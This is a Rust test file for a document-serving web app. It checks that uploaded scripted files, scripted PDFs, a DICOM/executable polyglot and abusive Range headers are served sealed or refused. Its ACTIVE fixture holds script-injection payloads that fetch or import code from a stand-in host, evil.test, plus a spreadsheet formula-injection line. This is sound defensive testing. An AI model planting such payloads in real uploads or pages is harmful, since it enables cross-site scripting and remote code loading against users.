//! S41, S42, S45: files that would run, and requests that want too much of one.

use crate::documents::Desk;
use axum::Router;
use axum::body::Body;
use http::{HeaderMap, Method, Request, header};
use jiff::SignedDuration;
use std::sync::Arc;
use tests::client::Answer;
use tests::slices::slice;
use tests::{Client, papers};
use tower::ServiceExt;

/// What would run where it is shown, under names of its own and of others.
const ACTIVE: &[(&str, &[u8])] = &[
    ("scan.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//evil.test')</script></svg>"),
    ("letter.html", b"<!doctype html><html><body><script>document.cookie='x=1'</script></body></html>"),
    ("page.xhtml", b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>1</script></html>"),
    ("data.xml", b"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"//evil.test\"?><a/>"),
    ("viewer.js", b"import('//evil.test/x.js'); alert(document.domain)"),
    ("photo.jpg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
    ("report.pdf", b"<html><script>alert(1)</script></html>"),
    ("labs.txt", b"<script>alert(1)</script>"),
    ("table.csv", b"=HYPERLINK(\"http://evil.test\")"),
];

/// Every original that the case keeps, by the address under which the desk serves it.
async fn originals(desk: &Desk) -> Vec<(String, String, String)> {
    let look = desk.house.database.look().await;
    let rows: Vec<(uuid::Uuid, uuid::Uuid, String)> =
        sqlx::query_as("SELECT document_id, id, name FROM files WHERE document_id IS NOT NULL ORDER BY name")
            .fetch_all(&look)
            .await
            .expect("files");
    rows.into_iter()
        .map(|(document, file, name)| {
            let document = desk.path(&format!("documents/{document}"));
            (format!("{document}/files/{file}"), document, name)
        })
        .collect()
}

/// Nothing of a served file may run, be guessed at, be shown by itself or be kept by anybody on the way.
fn sealed(headers: &HeaderMap, what: &str) {
    let said = |name| headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or("");
    assert_eq!(said(header::CONTENT_SECURITY_POLICY), "default-src 'none'; sandbox", "{what}");
    assert_eq!(said(header::X_CONTENT_TYPE_OPTIONS), "nosniff", "{what}");
    assert!(said(header::CONTENT_DISPOSITION).starts_with("attachment; "), "{what}: {headers:?}");
    assert_eq!(said(header::CACHE_CONTROL), "no-store", "{what}");
    assert!(!headers.contains_key(header::SET_COOKIE), "{what}: {headers:?}");
    let kind = said(header::CONTENT_TYPE);
    let harmless = ["application/octet-stream", "application/pdf", "application/zip", "application/dicom"];
    assert!(harmless.contains(&kind) || (kind.starts_with("image/") && kind != "image/svg+xml"), "{what}: {kind}");
}

#[tokio::test]
async fn s41_what_would_run_is_taken_away_or_not_at_all_and_never_drawn() {
    let mut desk = Desk::new().await;
    desk.sent(ACTIVE).await;
    let served = originals(&desk).await;
    let aside = "SELECT count(*) FROM files WHERE document_id IS NULL";
    let aside = usize::try_from(desk.count(aside).await).expect("few");
    assert!(!served.is_empty() && aside >= 8, "{aside} became no document, {served:?} did");
    assert_eq!(aside + served.len(), ACTIVE.len());
    for (file, document, name) in &served {
        let answer = desk.maryam.get(file).await.expect(200);
        sealed(&answer.headers, name);
        assert_eq!(answer.headers[header::CONTENT_TYPE], "application/octet-stream", "{name}");
        let archive = desk.maryam.get(&format!("{document}/archive")).await.expect(200);
        sealed(&archive.headers, name);
        for picture in ["pages/1", "frames/1"] {
            desk.maryam.get(&format!("{document}/{picture}")).await.expect(404);
        }
        let page = desk.maryam.get(document).await.expect(200).text();
        assert!(!page.contains("<script>") && !page.contains("onload="), "{name} is drawn on its page");
    }
}

#[tokio::test]
async fn s41_a_pdf_that_runs_is_warned_about_shown_as_pictures_and_sealed() {
    let mut desk = Desk::new().await;
    desk.sent(&[("2026-07-02 labs.pdf", &papers::scripted_pdf(false)), ("b.pdf", &papers::scripted_pdf(true))]).await;
    let served = originals(&desk).await;
    assert_eq!(served.len(), 2, "{served:?}");
    for (file, document, _) in &served {
        warned_and_sealed(&mut desk, file, document).await;
    }
}

async fn warned_and_sealed(desk: &mut Desk, file: &str, document: &str) {
    let page = desk.maryam.get(document).await.expect(200).text();
    assert!(page.contains("This PDF carries a script"), "{page}");
    let answer = desk.maryam.get(file).await.expect(200);
    sealed(&answer.headers, "a PDF with JavaScript");
    let picture = desk.maryam.get(&format!("{document}/pages/1")).await.expect(200);
    assert!(picture.body.starts_with(b"\x89PNG"));
    assert_eq!(picture.headers[header::CONTENT_SECURITY_POLICY], "default-src 'none'; sandbox");
    assert_eq!(picture.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(picture.headers[header::CACHE_CONTROL], "no-store");
    assert!(!picture.headers.contains_key(header::SET_COOKIE));
}

/// What a DICOM file carries in front of its header is a program to some machines (CVE-2019-11687).
#[tokio::test]
async fn s40_an_image_that_is_a_program_too_is_served_to_nobody() {
    let mut desk = Desk::new().await;
    let mut both = slice(1, 1);
    both[..2].copy_from_slice(b"MZ");
    desk.sent(&[("IM1", &both), ("IM2", &slice(2, 1))]).await;
    let served = originals(&desk).await;
    assert_eq!(served.len(), 2, "{served:?}");
    let mut refused = 0;
    for (file, document, name) in &served {
        let program = name.ends_with("IM1");
        let page = desk.maryam.get(document).await.expect(200).text();
        assert_eq!(page.contains("program"), program, "{name}: {page}");
        for address in [file.clone(), format!("{document}/archive"), format!("{document}/frames/1")] {
            let status = desk.maryam.get(&address).await.status.as_u16();
            assert_eq!(status == 200, !program, "{address}: {status}");
            refused += usize::from(program);
        }
    }
    assert_eq!(refused, 3);
}

#[tokio::test]
async fn s45_ranges_are_capped_and_a_file_sets_nothing() {
    let mut desk = Desk::new().await;
    let labs = papers::pdf_with(&["Labs"], &[5; 100_000]);
    desk.sent(&[("2026-07-02 labs.pdf", &labs)]).await;
    let served = originals(&desk).await;
    let (file, document, _) = &served[0];
    // A thousand ranges of everything would be a hundred megabytes.
    let many = format!("bytes={}", vec!["0-"; 1000].join(","));
    let overlapping = format!("bytes={}", (0..200).map(|n| format!("{n}-99999")).collect::<Vec<_>>().join(", "));
    for range in [many.as_str(), overlapping.as_str(), "bytes=0-1,2-3", "bytes=-5,-6"] {
        let answer = desk.maryam.send(Method::GET, file, &[("range", range)], Body::empty()).await.expect(200);
        assert_eq!(answer.body.len(), labs.len(), "once, whole");
        sealed(&answer.headers, range);
    }
    for range in ["bytes=99999999999999999999-", "bytes=5-2", "bytes=a-b", "bytes=", "rows=1-2", "bytes=0-0;q=1"] {
        let answer = desk.maryam.send(Method::GET, file, &[("range", range)], Body::empty()).await;
        assert!(matches!(answer.status.as_u16(), 200 | 416), "{range}: {}", answer.status);
        assert!(answer.body.len() <= labs.len());
    }
    // Neither a wish for a language nor a browser that comes for the first time makes a file set a cookie.
    for path in
        [format!("{file}?lang=ar"), format!("{document}/archive?lang=ru"), format!("{document}/pages/1?lang=zh")]
    {
        for method in [Method::GET, Method::HEAD] {
            desk.maryam.cookies.remove(web::here::BROWSER);
            let answer = desk.maryam.send(method, &path, &[], Body::empty()).await.expect(200);
            assert!(!answer.headers.contains_key(header::SET_COOKIE), "{path}: {:?}", answer.headers);
            assert_eq!(answer.headers[header::CACHE_CONTROL], "no-store");
        }
    }
}

/// At the files' own origin, in a browser that has no cookie there.
async fn there(router: &Router, method: Method, path: &str) -> Answer {
    let request = Request::builder().method(method).uri(path).header(header::HOST, "files.test");
    let request = request.body(Body::empty()).expect("a request");
    Answer::of(router.clone().oneshot(request).await.expect("an answer")).await
}

#[tokio::test]
async fn s42_where_files_have_an_origin_they_leave_from_there_alone() {
    let mut desk = Desk::new().await;
    desk.sent(&[("2026-07-02 labs.pdf", &papers::scripted_pdf(true))]).await;
    let served = originals(&desk).await;
    let (file, document, _) = &served[0];
    let whole = desk.maryam.get(file).await.expect(200).body;
    // The same house, with a second name.
    let mut app = desk.house.app.clone();
    app.settings = Arc::new(web::Settings { files_url: Some("https://files.test".into()), ..(*app.settings).clone() });
    let router = web::router(app);
    let mut maryam = Client::new(router.clone());
    maryam.cookies = desk.maryam.cookies.clone();

    let answer = maryam.get(file).await.expect(303);
    assert!(answer.body.is_empty(), "not one byte of it leaves here");
    let ticket = answer.location().strip_prefix("https://files.test").expect("the other origin").to_owned();
    let desk_cookie = &maryam.cookies["__Host-carnet-desk"];
    assert!(!ticket.contains(desk_cookie.as_str()) && !ticket.contains("cases"), "{ticket}");
    for method in [Method::GET, Method::HEAD] {
        let answer = there(&router, method.clone(), &ticket).await.expect(200);
        sealed(&answer.headers, "at the files' origin");
        assert!(answer.body == whole || method == Method::HEAD);
    }
    let archive = maryam.get(&format!("{document}/archive")).await.expect(303);
    assert!(archive.location().starts_with("https://files.test/f/"));
    // What the service draws stays with the page that shows it.
    let picture = maryam.get(&format!("{document}/pages/1")).await.expect(200);
    assert!(picture.body.starts_with(b"\x89PNG"));

    // Over there is nothing else: no page, nothing to sign in to, nothing to change.
    for path in [document.as_str(), "/sign-in", "/f/", "/f/AAAA", file] {
        let answer = there(&router, Method::GET, path).await.expect(303);
        assert!(answer.location().starts_with("https://carnet.test/"), "{path}: {}", answer.location());
    }
    let changed = there(&router, Method::POST, &ticket).await;
    assert!(changed.status.is_client_error(), "{}", changed.status);
    let mut torn = ticket.clone();
    torn.replace_range(20..21, if &ticket[20..21] == "A" { "B" } else { "A" });
    there(&router, Method::GET, &torn).await.expect(303);

    // The session decides there too, at once; and a ticket is old after ten minutes.
    desk.house.clock.pass(SignedDuration::from_mins(9));
    there(&router, Method::GET, &ticket).await.expect(200);
    desk.house.clock.pass(SignedDuration::from_mins(2));
    there(&router, Method::GET, &ticket).await.expect(303);
    let fresh = maryam.get(file).await.expect(303);
    let fresh = fresh.location().strip_prefix("https://files.test").expect("the other origin").to_owned();
    maryam.get("/account").await.expect(200);
    maryam.post("/sign-out", &[]).await.expect(303);
    let answer = there(&router, Method::GET, &fresh).await;
    assert!(answer.status.is_redirection() || answer.status.is_client_error(), "{}", answer.status);
    assert!(!answer.body.windows(8).any(|part| part == &whole[..8]));
    // Without a session nobody is sent anywhere but to sign in.
    let stranger = Client::new(router).get(file).await;
    assert!(!stranger.location().contains("files.test"), "{}", stranger.location());
}
